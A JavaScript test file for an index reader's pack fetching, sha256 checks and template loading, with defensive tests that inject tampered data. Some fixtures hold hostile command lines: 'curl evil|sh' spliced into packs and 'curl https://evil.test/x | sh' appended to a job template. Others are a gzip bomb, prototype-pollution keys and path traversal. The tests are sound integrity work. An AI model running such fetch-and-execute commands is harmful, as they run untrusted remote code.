// The index reader cases (tests/cases/reader/) against the composer's index/reader.js.
// Run from the repository: node --test tests/js/
// Every expectation was made by the Python reader (tests/cases/reader/regen.py).

import assert from "node:assert/strict";
import { readdirSync, readFileSync } from "node:fs";
import { dirname, join } from "node:path";
import { test } from "node:test";
import { fileURLToPath } from "node:url";
import { gunzipSync, gzipSync } from "node:zlib";

import { PrereqError } from "../../site/assets/composer/core/errors.js";
import { Index, PACK_IDLE_SECONDS } from "../../site/assets/composer/index/reader.js";
import { firstCallbacks } from "../../site/assets/composer/jobs/loadline.js";
import { deprecatedNote } from "../../site/assets/composer/jobs/operations.js";

const CASES = join(dirname(fileURLToPath(import.meta.url)), "..", "cases");
const TINY_ROOT = join(CASES, "indexes", "tiny", "api", "v1", "index.json");

/* The changed root of indexes/tiny a case describes (as reader_corpus.changed_root does). */
function changedRoot(change) {
  if ("replace" in change) return change.replace;
  const root = JSON.parse(readFileSync(TINY_ROOT, "utf8"));
  Object.assign(root, change.set || {});
  for (const key of change.delete || []) delete root[key];
  return root;
}

async function outcome(change) {
  const body = new TextEncoder().encode(JSON.stringify(changedRoot(change)));
  try {
    const api = dirname(TINY_ROOT);
    const index = await Index.load("BASE", async (path) => (path === "index.json" ? body : readFileSync(join(api, path))));
    return { items: index.entries.size };
  } catch (error) {
    if (!(error instanceof PrereqError)) throw error;
    return { error: error.message, hint: error.hint };
  }
}

for (const name of readdirSync(join(CASES, "reader")).filter((n) => /^[0-9]{3}-.*\.json$/.test(n)).sort()) {
  test(`reader/${name.slice(0, -5)}`, async () => {
    const kase = JSON.parse(readFileSync(join(CASES, "reader", name), "utf8"));
    assert.deepEqual(await outcome(kase.change), kase.expect);
  });
}

/* A reader of the story index (its item files in one pack) that records what it was asked, round by
 * round (a round ends when nothing is pending); `change(path, bytes)` may alter or refuse a file, and
 * `serve(path)` give one the index does not have. */
function recordingReader({ change = (path, bytes) => bytes, serve = () => null } = {}) {
  const api = join(CASES, "indexes", "story", "api", "v1");
  const reader = { asked: [], round: 0 };
  let pending = 0;
  reader.read = (path) => {
    reader.asked.push([reader.round, path]);
    pending += 1;
    return new Promise((resolve, reject) => setTimeout(() => {
      pending -= 1;
      if (pending === 0) reader.round += 1;
      try {
        resolve(change(path, serve(path) ?? readFileSync(join(api, path))));
      } catch (error) {
        reject(error);
      }
    }, 0));
  };
  return reader;
}

const withoutPacks = (path, bytes) => {
  if (path === "packs.json") throw new PrereqError("cannot load packs.json (404 Not Found)"); // as an older build
  return bytes;
};

const STORY_PACKS = JSON.parse(readFileSync(join(CASES, "indexes", "story", "api", "v1", "packs.json"), "utf8"));

async function ensured(reader, names) {
  const index = await Index.load("BASE", reader.read);
  const start = reader.round;
  await index.ensure(names);
  return { index, asked: reader.asked.filter(([at]) => at >= start).map(([at, path]) => `${at - start} ${path}`).sort() };
}

/* The browser's own (the CLI reads item files as it needs them, so no shared case): a require chain
 * three items deep (mnist-data -> base-tools -> apt-proxy) is fetched in two rounds of item files
 * (after the pack map, asked once), not three: an item file's closures name the rest at once (a
 * 150-item closure was 19 rounds). */
test("index fetching: without packs, ensure asks for a closure's files in two rounds: the item's, then the rest", async () => {
  const { asked } = await ensured(recordingReader({ change: withoutPacks }), ["mnist-data"]);
  assert.deepEqual(asked, ["0 packs.json", "1 prerequisites/mnist-data.json", "2 prerequisites/apt-proxy.json",
    "2 prerequisites/base-tools.json", "2 prerequisites/nfs-storage-1.json"]);
});

test("index fetching: with packs, a closure comes in one request per pack after the pack map, each read once", async () => {
  const reader = recordingReader();
  const { index, asked } = await ensured(reader, ["mnist-data"]);
  const [pack] = STORY_PACKS.packs;
  assert.deepEqual(asked, ["0 packs.json", `1 ${pack}`]);
  const plain = await ensured(recordingReader({ change: withoutPacks }), ["mnist-data"]);
  for (const name of ["mnist-data", "base-tools", "apt-proxy", "nfs-storage-1"]) {
    assert.deepEqual(index.document(name), plain.index.document(name), name);
  }
  await index.ensure(["enable-ssh", "miniconda"]);
  assert.deepEqual(reader.asked.filter(([, path]) => path === pack || path === "packs.json").length, 2);
});

/* The story's item files in three packs (mnist-data's own; base-tools and apt-proxy; the rest), the map's
 * closures hint as given, and a reader serving them. */
function threePacks(closures, { packsAfter = [], raw = (text) => text } = {}) {
  const lines = STORY_LINES.toString("utf8").split(/(?<=\n)/);
  const nameOf = (line) => JSON.parse(line).name;
  const group = (name) => (name === "mnist-data" ? 0 : ["base-tools", "apt-proxy"].includes(name) ? 1 : 2);
  const packs = [0, 1, 2].map((at) => `packs/${String(at).padStart(16, "0")}.ndjson.gz`);
  const bodies = packs.map((_, at) => gzipSync(Buffer.from(lines.filter((line) => group(nameOf(line)) === at).join(""))));
  const items = Object.fromEntries(lines.map((line) => [nameOf(line), group(nameOf(line))]));
  const map = { format: STORY_PACKS.format, packs: [...packs, ...packsAfter], items };
  if (closures !== undefined) map.closures = closures;
  const serve = (path) => (path === "packs.json" ? Buffer.from(raw(JSON.stringify(map))) : packs.includes(path) ? bodies[packs.indexOf(path)] : null);
  return recordingReader({ serve });
}

/* The map's hint asks for the packs of an item's closure beside its own: one round, not two (at 10,000
 * items a 150-item closure's check was 25 ms sooner, an RTT on a real network). */
test("index fetching: with the map's closures, a closure's packs are asked for in the item's round", async () => {
  const packs = [0, 1, 2].map((at) => `packs/${String(at).padStart(16, "0")}.ndjson.gz`);
  const plain = await ensured(threePacks(undefined), ["mnist-data"]);
  assert.deepEqual(plain.asked, ["0 packs.json", `1 ${packs[0]}`, `2 ${packs[1]}`, `2 ${packs[2]}`]);
  const hinted = await ensured(threePacks({ "mnist-data": [1, 2] }), ["mnist-data"]);
  assert.deepEqual(hinted.asked, ["0 packs.json", ...packs.map((pack) => `1 ${pack}`)]);
  for (const name of ["mnist-data", "base-tools", "apt-proxy", "nfs-storage-1"]) {
    assert.deepEqual(hinted.index.document(name), plain.index.document(name), name);
  }
  // A hint is read only as far as it names packs of the map, each once, and at most 64 of them.
  const hostile = await ensured(threePacks({ "mnist-data": [2, 2, "constructor", -1, 9, ...Array(100).fill(1)], "apt-proxy": "x" }), ["mnist-data"]);
  assert.deepEqual(hostile.asked, ["0 packs.json", ...packs.map((pack) => `1 ${pack}`)]);
  const beyond = await ensured(threePacks({ "mnist-data": [...Array(64).fill(1), 2] }), ["mnist-data"]);
  assert.deepEqual(beyond.asked, ["0 packs.json", `1 ${packs[0]}`, `1 ${packs[1]}`, `2 ${packs[2]}`]);
  assert.deepEqual((await ensured(threePacks({}), ["no-such-item"])).asked, []); // nothing to read: not even the map
  // A position is an index, not what JavaScript would make one of: an array 10,000 deep, a pack path in
  // an array (each copy was read again), "1" and 1.0 in JSON text that says "1.5".
  const deep = `${"[".repeat(10000)}1${"]".repeat(10000)}`;
  const odd = await ensured(threePacks({ "mnist-data": ["DEEP", "1", 1.5, 3, 4] }, { packsAfter: [[packs[1]], [[packs[2]]]],
    raw: (text) => text.replace('"DEEP"', deep) }), ["mnist-data"]);
  assert.deepEqual(odd.asked, plain.asked);
  const deepItem = await ensured(threePacks(undefined, { raw: (text) => text.replace('"mnist-data":0', `"mnist-data":${deep}`) }), ["mnist-data"]);
  assert.ok(deepItem.asked.includes("1 prerequisites/mnist-data.json"), deepItem.asked.join(", "));
  for (const closures of ["not an object", null, { "mnist-data": "1" }]) {
    assert.deepEqual((await ensured(threePacks(closures), ["mnist-data"])).asked, plain.asked);
  }
});

/* The pack map is not vouched for by the root: a wrong one costs requests, never an unchecked byte. */
test("index fetching: a pack map that names the wrong pack, or is no pack map, leaves the item files", async () => {
  const encode = (value) => new TextEncoder().encode(JSON.stringify(value));
  const maps = [
    { ...STORY_PACKS, packs: ["packs/0000000000000000.ndjson.gz"] },
    { ...STORY_PACKS, items: { ["__proto__"]: 0, "mnist-data": 7 } },
    { format: "prereq-packs/9", packs: STORY_PACKS.packs, items: STORY_PACKS.items },
    { ...STORY_PACKS, packs: ["https://elsewhere.example/packs/0000000000000000.ndjson.gz"] }, // it names no other file
    { ...STORY_PACKS, packs: STORY_PACKS.packs.map((path) => path.replace(/\.gz$/, "")) }, // a pack of before they were gzipped
    { ...STORY_PACKS, packs: ["../../v1/prerequisites/mnist-data.json"] },
    "not a map",
  ];
  for (const map of maps) {
    const { index, asked } = await ensured(recordingReader({ change: (path, bytes) => (path === "packs.json" ? encode(map) : bytes) }), ["mnist-data"]);
    assert.ok(asked.some((line) => line.endsWith("prerequisites/mnist-data.json")), asked.join(", "));
    assert.ok(asked.every((line) => /^\d+ (packs\.json|packs\/[0-9a-f]{16}\.ndjson\.gz|prerequisites\/[a-z0-9-]+\.json)$/.test(line)), asked.join(", "));
    assert.equal(index.document("mnist-data").name, "mnist-data");
  }
});

/* A pack is a way to fetch, not a thing to trust: a line whose sha256 the root does not give is not used. */
test("index fetching: a changed line of a pack is passed over for the item's own file, which is checked as ever", async () => {
  const text = (bytes, edit) => new TextEncoder().encode(edit(new TextDecoder().decode(bytes)));
  const swap = (bytes, from, to) => (bytes[0] === 0x1f ? gzipSync(swap(gunzipSync(bytes), from, to)) : text(bytes, (s) => s.replaceAll(from, to)));
  const tamperedPack = (path, bytes) => (path.startsWith("packs/") ? swap(bytes, "apt-get", "curl evil|sh; apt-get") : bytes);
  const reader = recordingReader({ change: tamperedPack });
  const { index, asked } = await ensured(reader, ["mnist-data"]);
  assert.ok(asked.some((line) => line.endsWith(" prerequisites/base-tools.json")), asked.join(", "));
  assert.ok(!JSON.stringify(index.document("base-tools")).includes("evil"));

  const both = (path, bytes) => (path === "index.json" ? bytes : swap(bytes, "apt-get", "curl evil|sh; apt-get"));
  await assert.rejects(ensured(recordingReader({ change: both }), ["mnist-data"]),
    (error) => error instanceof PrereqError && /does not match the sha256 in index\.json/.test(error.message));
});

test("index fetching: a pack a host sent decoded is read as it came", async () => {
  const decoded = (path, bytes) => (path.startsWith("packs/") ? gunzipSync(bytes) : bytes);
  const { index, asked } = await ensured(recordingReader({ change: decoded }), ["mnist-data"]);
  assert.deepEqual(asked, ["0 packs.json", `1 ${STORY_PACKS.packs[0]}`]);
  assert.equal(index.document("base-tools").name, "base-tools");
});

const STORY_LINES = gunzipSync(readFileSync(join(CASES, "indexes", "story", "api", "v1", STORY_PACKS.packs[0])));

/* The pack's lines and 65 MiB of blanks are 65 kB gzipped: the reader stops at 64 MiB, its lines unused. */
test("index fetching: a pack that inflates past 64 MiB, or is not gzip, leaves the item files", async () => {
  const bomb = gzipSync(Buffer.concat([STORY_LINES, Buffer.alloc(65 << 20, " ")]));
  for (const pack of [bomb, bomb.subarray(0, 40), Buffer.concat([bomb.subarray(0, 2), Buffer.from("not gzip")])]) {
    const { index, asked } = await ensured(recordingReader({ change: (path, bytes) => (path.startsWith("packs/") ? pack : bytes) }), ["mnist-data"]);
    assert.ok(asked.includes("2 prerequisites/mnist-data.json"), asked.join(", "));
    assert.equal(index.document("apt-proxy").name, "apt-proxy");
  }
});

/* A map may name a pack of its own for each item: 64 MiB is what all an index's packs may unpack to. */
test("index fetching: packs that together inflate past 64 MiB leave the item files", async () => {
  const names = Object.keys(STORY_PACKS.items);
  const map = { ...STORY_PACKS, packs: names.map((_, i) => `packs/${String(i).padStart(16, "0")}.ndjson.gz`),
    items: Object.fromEntries(names.map((name, i) => [name, i])) };
  const big = gzipSync(Buffer.concat([STORY_LINES, Buffer.alloc(30 << 20, " ")]));
  const api = join(CASES, "indexes", "story", "api", "v1");
  const asked = [];
  const read = async (path) => {
    asked.push(path);
    return path === "packs.json" ? Buffer.from(JSON.stringify(map)) : path.startsWith("packs/") ? big : readFileSync(join(api, path));
  };
  const index = await Index.load("BASE", read);
  await index.ensure(["mnist-data"]);
  assert.ok(asked.filter((path) => path.startsWith("packs/")).length >= 3, asked.join(", "));
  assert.ok(asked.some((path) => path.startsWith("prerequisites/")), asked.join(", "));
  assert.ok(index.unpacked > 64 << 20);
  assert.equal(index.document("apt-proxy").name, "apt-proxy");
});

/* Only the lines the root names are kept, each copied out of its pack, so the rest of it can go. */
test("index fetching: a pack's lines are kept only when the root names them, copied out of the pack", async () => {
  const junk = Buffer.from(`${JSON.stringify({ name: "junk", pad: "x".repeat(1000) })}\n`);
  const reader = recordingReader({ change: (path, bytes) => (path.startsWith("packs/") ? gzipSync(Buffer.concat([STORY_LINES, junk])) : bytes) });
  const { index } = await ensured(reader, ["mnist-data"]);
  const kept = await index.lines.get(STORY_PACKS.packs[0]);
  assert.equal(kept.size, STORY_LINES.toString().trim().split("\n").length);
  for (const line of kept.values()) assert.equal(line.buffer.byteLength, line.length);
});

test("index fetching: a pack that cannot be read leaves the item files to be read one by one", async () => {
  const missing = (path, bytes) => {
    if (path.startsWith("packs/")) throw new PrereqError(`cannot load ${path} (404 Not Found)`);
    return bytes;
  };
  const { index, asked } = await ensured(recordingReader({ change: missing }), ["mnist-data"]);
  const files = asked.map((line) => line.split(" ")[1]).filter((path) => path.startsWith("prerequisites/"));
  assert.ok(asked.some((line) => line.includes(STORY_PACKS.packs[0])), "the pack was asked for");
  assert.deepEqual(files.sort(), ["apt-proxy", "base-tools", "mnist-data", "nfs-storage-1"].map((n) => `prerequisites/${n}.json`));
  assert.equal(index.document("apt-proxy").name, "apt-proxy");
});

/* A prefetch (the page's, on pointing at a box) and the edit after it ask for the same names at once:
 * one read of each file between them. */
test("index fetching: two ensures of the same names at once read each file once", async () => {
  const reader = recordingReader({ change: withoutPacks });
  const index = await Index.load("BASE", reader.read);
  const start = reader.asked.length;
  await Promise.all([index.ensure(["mnist-data"]), index.ensure(["mnist-data", "base-tools"])]);
  const files = reader.asked.slice(start).map(([, path]) => path).filter((path) => path.startsWith("prerequisites/"));
  assert.deepEqual(files.sort(), ["apt-proxy", "base-tools", "mnist-data", "nfs-storage-1"].map((n) => `prerequisites/${n}.json`));
  assert.equal(index.loading.size, 0, "nothing is left under way");
});

test("index fetching: a pack may stall only PACK_IDLE_SECONDS, not a file's 60, before its items' own files are read", async () => {
  const reader = recordingReader();
  const idle = new Map();
  const read = (path, options) => (idle.set(path, options?.seconds), reader.read(path, options));
  const index = await Index.load("BASE", read);
  await index.ensure(["mnist-data"]);
  assert.ok(PACK_IDLE_SECONDS > 0 && PACK_IDLE_SECONDS <= 10);
  assert.equal(idle.get(STORY_PACKS.packs[0]), PACK_IDLE_SECONDS);
  assert.equal(idle.get("packs.json"), PACK_IDLE_SECONDS, "the pack map is as optional");
  assert.equal(idle.get("index.json"), undefined, "the root and the item files: the reader's own deadline");
});

test("index fetching: a pack the network failed once is asked for again, not passed over for good", async () => {
  let failures = 1;
  const flaky = (path, bytes) => {
    if (path.startsWith("packs/") && failures-- > 0) throw new PrereqError(`cannot load ${path} (network error)`);
    return bytes;
  };
  const reader = recordingReader({ change: flaky });
  const index = await Index.load("BASE", reader.read);
  await index.ensure(["enable-ssh"]); // its pack fails: its files are read one by one
  const start = reader.asked.length;
  await index.ensure(["mnist-data"]);
  const asked = reader.asked.slice(start).map(([, path]) => path);
  assert.deepEqual(asked, [STORY_PACKS.packs[0]], "the pack again, and no item file");
});

/* An item file's item.conflicts as both engines read it (tests/cases/reader/conflicts.json, also run by
 * tests/test_index_item_fields.py): a list of names; anything else is none. */
const CONFLICTS = JSON.parse(readFileSync(join(CASES, "reader", "conflicts.json"), "utf8")).cases;
for (const kase of CONFLICTS) {
  test(`index reading: conflicts ${JSON.stringify(kase.conflicts)} (reader/conflicts.json)`, async () => {
    const { index } = await ensured(recordingReader(), ["mnist-data"]);
    for (const version of index.document("mnist-data").versions) version.item.conflicts = kase.conflicts;
    const read = index.closure(["mnist-data"]).find((item) => item.name === "mnist-data");
    assert.deepEqual(read.conflicts, kase.read);
  });
}

/* An item file's item.require as both engines read it when choosing versions (tests/cases/reader/require.json,
 * also run by tests/test_index_item_fields.py): none, or a list of names; anything else is refused. */
const REQUIRE = JSON.parse(readFileSync(join(CASES, "reader", "require.json"), "utf8")).cases;
for (const kase of REQUIRE) {
  test(`index reading: require ${JSON.stringify(kase.require)} (reader/require.json)`, async () => {
    const { index } = await ensured(recordingReader(), ["mnist-data"]);
    for (const version of index.document("mnist-data").versions) version.item.require = kase.require;
    await index.ensure(["mnist-data"]); // reading ahead takes any value
    if (!("error" in kase)) {
      assert.deepEqual(index.closure(["mnist-data"]).map((item) => item.name), kase.names);
      return;
    }
    assert.throws(() => index.closure(["mnist-data"]), (error) => error instanceof PrereqError &&
      error.message === kase.error.replace("{base}", "BASE") && error.hint === "rebuild the index with 'prereq build'");
  });
}

/* An item's deprecation as both engines say it (tests/cases/reader/deprecated.json, also run by
 * tests/test_index_item_fields.py). */
for (const kase of JSON.parse(readFileSync(join(CASES, "reader", "deprecated.json"), "utf8")).cases) {
  test(`index reading: deprecated ${JSON.stringify(kase.deprecated)} (reader/deprecated.json)`, () => {
    assert.equal(deprecatedNote("old", "1.0.0", { item: { deprecated: kase.deprecated } }), kase.note);
  });
}

/* As tests/test_index_item_fields.py's: an entry named by a list, a callback without an event. */
test("index reading: prereq's callbacks of an entry with an odd name or no event are passed over", () => {
  const cmd = "com.microsoft.pai.runtimeplugin.cmd";
  const data = {
    prerequisites: [
      { name: ["odd"], type: "script", plugin: cmd, callbacks: [{ event: "taskStarts", commands: ["other"] }] },
      { name: "a", type: "script", plugin: cmd, callbacks: [{ commands: ["other"] }] },
      { name: "b", type: "script", plugin: cmd, callbacks: [{ event: "taskStarts", commands: ["other"] }] },
    ],
    taskRoles: { r: { prerequisites: ["a", "b"] } },
  };
  assert.deepEqual([...firstCallbacks(data, { first: "first", other: "other" })], ["2,0"]);
});

/* A template's commands run in every job started from it: the root vouches for its bytes, as for an item's. */
test("templates/a job template is taken only when its bytes match the root's sha256", async () => {
  const index = await Index.load("BASE", recordingReader().read);
  const [template] = index.templates();
  assert.equal(template.name, "mnist-training");
  assert.match(await index.templateText(template), /mnist-data/);
  const tampered = recordingReader({ change: (path, bytes) =>
    (path === template.path ? Buffer.concat([bytes, Buffer.from("      - curl https://evil.test/x | sh\n")]) : bytes) });
  const served = await Index.load("BASE", tampered.read);
  await assert.rejects(served.templateText(served.templates()[0]),
    (error) => error instanceof PrereqError && error.message === `${template.path} does not match the sha256 in index.json`);
  await assert.rejects(index.templateText({ ...template, sha256: undefined }), /lists the template mnist-training without its sha256/);
});

test("templates/a root's templates that are no objects naming a file are passed over", async () => {
  const index = await Index.load("BASE", recordingReader().read);
  const listed = index.root.templates[0];
  index.root.templates = [null, 7, { name: "no-path" }, listed, { name: 1, path: "x" }];
  assert.deepEqual(index.templates(), [listed]);
});
